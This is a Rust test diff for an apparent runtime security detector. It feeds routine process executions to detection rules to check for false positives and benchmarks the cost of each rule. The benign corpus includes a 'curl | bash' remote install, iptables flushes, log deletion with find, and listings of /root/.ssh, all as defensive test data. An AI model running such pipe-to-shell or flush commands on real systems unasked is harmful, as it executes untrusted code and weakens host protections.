+        ("", "/usr/sbin/iptables", &["iptables", "--wait", "-t", "nat", "-F", "DOCKER"], &[dockerd, systemd]),
+        ("", "/usr/sbin/iptables", &["iptables", "--wait", "-t", "filter", "-F"], &[dockerd, systemd]),
+        (
+            "",
+            "/usr/sbin/iptables-restore",
+            &["iptables-restore", "-w", "5", "--noflush", "--counters"],
+            &[kube_proxy, systemd],
+        ),
+        ("", "/usr/sbin/modprobe", &["/sbin/modprobe", "-q", "--", "net-pf-10"], &[kworker]),
+        (
+            "",
+            "/usr/bin/dash",
+            &["/bin/sh", "/var/lib/dpkg/info/openssh-server.postinst", "configure"],
+            &[dpkg, apt, bash],
+        ),
+        (
+            "",
+            "/usr/sbin/adduser",
+            &["adduser", "--system", "--group", "--no-create-home", "sshd"],
+            &[("/usr/bin/dash", &["/bin/sh", "/var/lib/dpkg/info/openssh-server.postinst", "configure"]), dpkg, apt],
+        ),
+        (
+            "",
+            "/usr/bin/chmod",
+            &["chmod", "4755", "/usr/lib/openssh/ssh-keysign"],
+            &[("/usr/bin/dash", &["/bin/sh", "/var/lib/dpkg/info/openssh-client.postinst"]), dpkg, apt],
+        ),
+        (
+            "",
+            "/usr/bin/systemctl",
+            &["systemctl", "enable", "ssh.service"],
+            &[("/usr/bin/perl", &["/usr/bin/deb-systemd-helper", "enable", "ssh.service"]), dpkg, apt],
+        ),
+        ("", "/usr/bin/dash", &["/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly"], &[cron, systemd]),
+        (
+            "",
+            "/usr/bin/ssh",
+            &["ssh", "-o", "ControlMaster=auto", "git@github.com", "git-upload-pack 'org/repo.git'"],
+            &[git, bash],
+        ),
+        ("", "/usr/bin/curl", &["curl", "-sSf", "https://sh.rustup.rs", "-o", "/tmp/rustup-init.sh"], &[bash, sshd]),
+        ("", "/usr/bin/grep", &["grep", "-rn", "password", "src/"], &[bash, sshd]),
+        ("", "/usr/bin/touch", &["touch", "-d", "@0", "build/stamp"], &[("/usr/bin/make", &["make", "all"]), bash]),
+        (
+            "",
+            "/tmp/go-build2941/b001/vigil.test",
+            &["/tmp/go-build2941/b001/vigil.test", "-test.v"],
+            &[("/usr/local/go/bin/go", &["go", "test", "./..."]), bash],
+        ),
+        ("", "/usr/bin/docker", &["docker", "exec", "-it", "web", "sh"], &[bash, sshd]),
+        ("", "/usr/bin/docker", &["docker", "run", "-d", "--name", "web", "-p", "80:80", "nginx:1.25"], &[bash, sshd]),
+        ("", "/usr/bin/ps", &["ps", "aux"], &[bash, sshd]),
+        ("", "/usr/bin/tar", &["tar", "-xzf", "/tmp/node.tgz", "-C", "/opt"], &[bash, sshd]),
+        (
+            "",
+            "/usr/bin/find",
+            &["find", "/var/log", "-name", "*.gz", "-mtime", "+7", "-delete"],
+            &[cron_sh, cron, systemd],
+        ),
+        ("", "/usr/bin/sudo", &["sudo", "systemctl", "restart", "nginx"], &[bash, sshd]),
+        (
+            "",
+            "/usr/sbin/sshd",
+            &["/usr/sbin/sshd", "-D", "-R"],
+            &[("/usr/sbin/sshd", &["sshd: /usr/sbin/sshd -D"]), systemd],
+        ),
+        ("", "/usr/bin/journalctl", &["journalctl", "-u", "nginx", "--since", "1 hour ago"], &[bash, sshd]),
+        ("", "/usr/bin/cat", &["cat", "/root/.ssh/id_rsa.pub"], &[bash, sshd]),
+        ("", "/usr/bin/ls", &["ls", "-la", "/root/.ssh"], &[bash, sshd]),
+        ("nginx:1.25", "/bin/busybox", &["curl", "-f", "http://localhost:8080/healthz"], &[runc, shim]),
+        (
+            "nginx:1.25",
+            "/usr/bin/dash",
+            &["/bin/sh", "-c", "curl -fs http://localhost/api/v1/health || exit 1"],
+            &[runc, shim],
+        ),
+        ("nginx:1.25", "/usr/bin/dash", &["/bin/sh", "/docker-entrypoint.sh", "nginx", "-g", "daemon off;"], &[shim]),
+        (
+            "nginx:1.25",
+            "/usr/bin/find",
+            &["find", "/docker-entrypoint.d/", "-mindepth", "1", "-maxdepth", "1", "-type", "f", "-print", "-quit"],
+            &[entry_sh, shim],
+        ),
+        ("nginx:1.25", "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], &[shim]),
+        (
+            "postgres:16",
+            "/usr/bin/chmod",
+            &["chmod", "700", "/var/lib/postgresql/data"],
+            &[("/usr/bin/bash", &["bash", "/usr/local/bin/docker-entrypoint.sh", "postgres"]), shim],
+        ),
+        (
+            "postgres:16",
+            "/usr/bin/find",
+            &["find", "/var/lib/postgresql/data", "!", "-user", "postgres", "-exec", "chown", "postgres", "{}", "+"],
+            &[("/usr/bin/bash", &["bash", "/usr/local/bin/docker-entrypoint.sh", "postgres"]), shim],
+        ),
+        (
+            "mysql:8",
+            "/usr/bin/mysql",
+            &["mysql", "--protocol=socket", "-uroot", "-hlocalhost", "--socket=/var/run/mysqld/mysqld.sock"],
+            &[("/usr/bin/bash", &["bash", "/entrypoint.sh", "mysqld"]), shim],
+        ),
+        ("redis:7", "/usr/local/bin/redis-cli", &["redis-cli", "ping"], &[runc, shim]),
+        ("app:1", "/usr/bin/dash", &["/bin/sh", "-c", "ulimit -n"], &[java, shim]),
+        (
+            "app:1",
+            "/usr/bin/dash",
+            &["/bin/sh", "-c", "convert /tmp/upload-1.png -resize 50% /tmp/thumb-1.png"],
+            &[java, shim],
+        ),
+        (
+            "jenkins/inbound-agent:latest",
+            "/usr/bin/docker",
+            &["docker", "build", "-t", "app", "."],
+            &[("/usr/bin/dash", &["sh", "-c", "docker build -t app ."]), java, shim],
+        ),
+        (
+            "registry.k8s.io/kube-proxy:v1.30.0",
+            "/usr/sbin/iptables",
+            &["iptables", "-w", "-t", "nat", "-F", "KUBE-SERVICES"],
+            &[kube_proxy, shim],
+        ),
+        ("docker.io/calico/node:v3.27.0", "/usr/sbin/modprobe", &["modprobe", "ipip"], &[calico, shim]),
+        ("registry.k8s.io/pause:3.9", "/pause", &["/pause"], &[shim]),
+        (
+            "public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.30.0",
+            "/bin/mount",
+            &[
+                "mount",
+                "-t",
+                "ext4",
+                "-o",
+                "defaults",
+                "/dev/nvme1n1",
+                "/var/lib/kubelet/pods/x/volumes/kubernetes.io~csi/pv/mount",
+            ],
+            &[("/bin/aws-ebs-csi-driver", &["aws-ebs-csi-driver", "node"]), shim],
+        ),
+        (
+            "python:3.12",
+            "/usr/local/bin/python3.12",
+            &["python3", "-c", "import sys; print(sys.version)"],
+            &[runc, shim],
+        ),
+        ("python:3.12", "/usr/local/bin/python3.12", &["python3", "-m", "pip", "list"], &[runc, shim]),
+        (
+            "node:20",
+            "/usr/local/bin/node",
+            &[
+                "node",
+                "-e",
+                "require('http').get('http://localhost:3000/health', r => process.exit(r.statusCode === 200 ? 0 : 1))",
+            ],
+            &[runc, shim],
+        ),
+        ("busybox:1.36", "/bin/busybox", &["sleep", "3600"], &[shim]),
+        (
+            "ubuntu:24.04",
+            "/usr/bin/bash",
+            &["/bin/bash", "-c", "echo 'export PATH=/opt/bin:$PATH' >> /root/.bashrc"],
+            &[shim],
+        ),
+        (
+            "ubuntu:24.04",
+            "/usr/bin/dash",
+            &["/bin/sh", "-c", "curl -fsSL https://deb.nodesource.com/setup_20.x | bash -"],
+            &[("/usr/bin/runc", &["buildkit-runc", "run"]), ("/usr/bin/dockerd", &["dockerd"])],
+        ),
+    ];
+    let mut failures = Vec::new();
+    for (image, exe, argv, parents) in routine {
+        let ancestry: Vec<Ancestor> = parents
+            .iter()
+            .filter(|(exe, _)| !exe.is_empty())
+            .enumerate()
+            .map(|(i, (exe, argv))| ancestor(4000 - i as u32 * 10, exe, argv))
+            .collect();
+        let comm = comm_of(argv[0]);
+        let event = Event {
+            id: 1,
+            time_ns: 1_763_000_000_000_000_000,
+            process: Some(Process {
+                pid: 4242,
+                tgid: 4242,
+                ppid: ancestry.first().map_or(2, |a| a.pid),
+                comm,
+                exe: exe.to_string(),
+                argv: argv.iter().map(|s| s.to_string()).collect(),
+                ancestry,
+                ..Default::default()
+            }),
+            container: (!image.is_empty()).then(|| {
+                Arc::new(Container {
+                    id: CONTAINER_ID.into(),
+                    name: "routine".into(),
+                    image: image.to_string(),
+                    runtime: Runtime::Containerd,
+                    pid: 100,
+                    ..Default::default()
+                })
+            }),
+            ..Event::new(EventKind::ProcessExec)
+        };
+        for (rule, message) in fired(&rules, &event) {
+            failures.push(format!("{rule:?} fired on routine {argv:?} ({image}):\n    {message}"));
+        }
+    }
+    assert!(failures.is_empty(), "{} false positives:\n{}", failures.len(), failures.join("\n"));
+}
+
+/// Rough cost of the bundled rules per exec event (`--ignored --nocapture`;
+/// a debug build, so only for comparing versions of the rules).
+#[test]
+#[ignore]
+fn evaluation_cost() {
+    let dir = std::env::var("VIGIL_RULES_DIR").ok();
+    let files = match dir {
+        Some(d) => {
+            let mut paths: Vec<PathBuf> = std::fs::read_dir(&d).unwrap().map(|e| e.unwrap().path()).collect();
+            paths.sort();
+            paths
+                .iter()
+                .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
+                .map(|p| SourceFile::new(p.file_name().unwrap().to_string_lossy(), std::fs::read_to_string(p).unwrap()))
+                .collect()
+        }
+        None => rule_files(),
+    };
+    let (rules, _) = RuleSet::load(&files);
+    let mut events = Vec::new();
+    for case in corpus() {
+        for (e, _) in events_of(&case) {
+            events.push(e);
+        }
+    }
+    let mut batches = Vec::new();
+    for e in &events {
+        let mut bytes = Vec::new();
+        encode_batch([e], &mut bytes);
+        batches.push(bytes);
+    }
+    let start = std::time::Instant::now();
+    let mut hits = 0;
+    for _ in 0..20 {
+        for b in &batches {
+            let batch = BatchView::new(b).unwrap();
+            hits += rules.matches(batch.get(0).unwrap()).len();
+        }
+    }
+    let n = 20 * batches.len();
+    println!("{} rules, {n} evaluations, {:?} per event, {hits} hits", rules.rules().len(), start.elapsed() / n as u32);
+}
+
+fn events_of(case: &Case) -> Vec<(Event, bool)> {
+    let mut out = events(case, Place::Container);
+    out.extend(events(case, Place::Host));
+    out
+}
+
+/// The bundled rules by cost per exec event, most expensive first
+/// (`--ignored --nocapture`; debug build, relative figures only).
+#[test]
+#[ignore]
+fn evaluation_cost_by_rule() {
+    let files = rule_files();
+    let (all, _) = RuleSet::load(&files);
+    let names: Vec<String> = all.rules().iter().map(|r| r.name.clone()).collect();
+    let mut batches = Vec::new();
+    for case in corpus() {
+        for (e, _) in events_of(&case) {
+            let mut bytes = Vec::new();
+            encode_batch([&e], &mut bytes);
+            batches.push(bytes);
+        }
+    }
+    let mut costs = Vec::new();
+    for keep in &names {
+        let mut off = String::new();
+        for n in names.iter().filter(|n| *n != keep) {
+            off.push_str(&format!("- rule: {}\n  enabled: false\n", serde_json::to_string(n).unwrap()));
+        }
+        let mut set = files.clone();
+        set.push(SourceFile::new("99-only.yaml", off));
+        let (rules, _) = RuleSet::load(&set);
+        assert_eq!(rules.rules().len(), 1);
+        let start = std::time::Instant::now();
+        for _ in 0..5 {
+            for b in &batches {
+                let batch = BatchView::new(b).unwrap();
+                std::hint::black_box(rules.matches(batch.get(0).unwrap()));
+            }
+        }
+        costs.push((start.elapsed() / (5 * batches.len()) as u32, keep.clone()));
+    }
+    costs.sort();
+    costs.reverse();
+    for (t, n) in costs.iter().take(25) {
+        println!("{t:>12?}  {n}");
+    }
+}
